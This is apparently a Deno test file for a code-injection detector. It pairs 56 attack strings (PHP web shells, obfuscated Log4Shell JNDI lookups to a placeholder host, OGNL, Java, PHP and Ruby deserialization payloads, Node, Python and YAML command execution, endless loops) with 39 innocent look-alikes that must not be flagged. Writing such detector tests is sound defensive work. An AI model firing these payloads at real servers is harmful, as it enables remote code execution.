import assert from "node:assert/strict";
import { pointsIn, rulesIn } from "../testing.ts";
import { code } from "./detect.ts";

/** Rule and text, one attack a line. */
const ATTACKS: readonly (readonly [string, string])[] = [
  ["php-shell", "<?php system($_GET['c']); ?>"],
  ["php-shell", "<?= shell_exec('id') ?>"],
  ["php-tag", "<?php echo 1;"],
  ["php-call", "base64_decode('aWQ=')"],
  ["php-call", "phpinfo()"],
  ["php-call", "1;passthru('id');"],
  ["php-call", "exec /*x*/ ('id')"],
  ["php-hidden-call", "('system')('id')"],
  ["php-hidden-call", "$f='sys'.'tem';$f('id')"],
  ["php-hidden-call", "$a['b'](9)"],
  ["php-variable", "$_POST['x']"],
  ["php-object", 'O:8:"stdClass":1:{s:1:"a";i:1;}'],
  ["php-setting", "-d allow_url_include=on"],
  ["java-jndi", "${jndi:ldap://h.example/a}"],
  ["java-jndi", "${${lower:j}${upper:n}di:rmi://h.example}"],
  ["java-jndi", "${${::-j}${::-n}${::-d}${::-i}:dns://h.example/x}"],
  ["java-jndi", "${${env:NaN:-j}ndi${env:NaN:-:}ldap://h.example}"],
  ["java-lookup", "${script:javascript:java.lang.Runtime}"],
  ["java-ognl", "%{(#a=@java.lang.Runtime@getRuntime())}"],
  ["java-ognl", "(#_memberAccess['x']=true)"],
  ["java-call", "Runtime.getRuntime().exec('id')"],
  ["java-call", "new ProcessBuilder('id').start()"],
  ["java-class", "java.lang.ProcessBuilder"],
  ["java-gadget", "org.apache.commons.collections.functors.InvokerTransformer"],
  ["java-object", "rO0ABXNyABFqYXZh"],
  ["java-class-loader", "class.module.classLoader.resources"],
  ["node-process", "require('child_process').exec('id')"],
  ["node-process", "process.mainModule.require('fs')"],
  ["node-object", '{"x":"_$$ND_FUNC$$_function(){}()"}'],
  ["python-call", "__import__('os').system('id')"],
  ["python-call", "import os; os.system('id')"],
  ["python-pickle", "cos\nsystem\n(S'id'\ntR."],
  ["yaml-object", "!!python/object/apply:os.system ['id']"],
  ["yaml-object", "--- !ruby/object:Gem::Installer"],
  ["ruby-call", "Kernel.exec('id')"],
  ["ruby-call", "IO.popen('id')"],
  ["dotnet-call", "System.Diagnostics.Process.Start('x')"],
  ["command-call", "system('id')"],
  ["command-call", "1;eval('x')"],
  ["node-process", "this.constructor.constructor"],
  ["node-process", "process['env']"],
  ["perl-interpolation", "@{[system 'id']}"],
  ["perl-interpolation", "@{ [ `id` ] }"],
  ["server-page", '<%@ Register Tagprefix="x" Namespace="y" %>'],
  ["server-page", '<x:y runat="server" />'],
  ["endless-loop", "while(true){}"],
  ["endless-loop", "while(!!'');"],
  ["endless-loop", "for(;;){}"],
  ["java-lookup", "${${base64:aGVsbG8gd29ybGQ=}}"],
  ["node-shell", "a.b.binding('spawn_sync').spawn(o)"],
  ["ruby-call", "BAhbB2MVR2VtOjpTcGVjRmV0Y2hlcjA="],
  ["php-hidden-call", "(~\u00a0\u00a1\u00a2\u00a3)();"],
  ["java-call", "println(new File('/etc/hosts').text)"],
  ["node-process", "';process.exit();//"],
  ["php-object", "Tzo1OiJUaGluZyI6MDp7fQ=="],
  ["php-object", "TzoxMjoiTG9uZ2VyXFRoaW5nIjowOnt9"],
];

/** One innocent text a line: no point at level 1. */
const INNOCENT: readonly string[] = [
  "java.lang.NullPointerException",
  "java.lang.IllegalStateException: closed\n\tat java.lang.Thread.run(Thread.java:748)\n\tat a.B.c(B.java:1)\n\tat d.E.f(E.java:2)",
  "Caused by: java.io.IOException at java.lang.ProcessBuilder.start(ProcessBuilder.java:1048)",
  "The class java.lang.String cannot be extended",
  "const fs = require('fs')",
  "node -e \"console.log(require('./package.json').version)\"",
  "eval() is evil, said Crockford",
  "system() call in C; exec() family",
  "regex.exec('abc') returns null",
  "db.exec('select 1')",
  "while (i < 10) i++",
  "for (;;) with a break inside",
  "a while(true) b",
  "(process['step'] == 7 && hall.kind['key'] == 'oil')",
  "process[bot] opened a pull request",
  "mail user@[192.0.2.1]",
  "obj.__class__.__name__ prints its name",
  "import os, subprocess\nsubprocess.run(['ls'], check=True)\nprint('done')\nprint(os.name)",
  "Report (final), Copy (2), file (1), mail (work)",
  '<?xml version="1.0" encoding="UTF-8"?><a/>',
  "<?php foreach ($items as $item): ?>",
  "<li><?= e($item->title) ?></li>",
  "Put `<?php echo 1 ?>` into the file index.php and open it in the browser, then tell me what you see.",
  "O:8 is a ratio, a:1 too",
  "Upgrade the library: a ${jndi:...} lookup must be off",
  "Tzomet 5: Oikos, TzoWIg",
  "${HOME}/bin ${A:-b} ${B:-${C:-d}}",
  "${project.version} ${spring.datasource.url}",
  "class MyLoader extends ClassLoader {}",
  "Runtime rt = Runtime.getRuntime();\nlog.info(rt.freeMemory());",
  "!important !!1 --- ruby",
  "process.env.PORT || 3000",
  "I asked the system (exec level) to evaluate it",
  "$price (20) and $5",
  "count(id)",
  "php_version=8",
  "com.example.app.Main",
  "transformers and closures",
  "mutation M($input: I!) { execFile(input: $input) { id } }",
];

for (const [rule, text] of ATTACKS) {
  Deno.test(`code.${rule} catches ${text.slice(0, 60)}`, () => {
    assert.ok(rulesIn(code, text).includes(`code.${rule}`), `${text}: ${rulesIn(code, text)}`);
  });
}

Deno.test("code passes innocent texts", () => {
  for (const text of INNOCENT) assert.equal(pointsIn(code, text), 0, `${text}: ${rulesIn(code, text)}`);
  assert.equal(INNOCENT.length, 39);
  assert.equal(ATTACKS.length, 56);
});
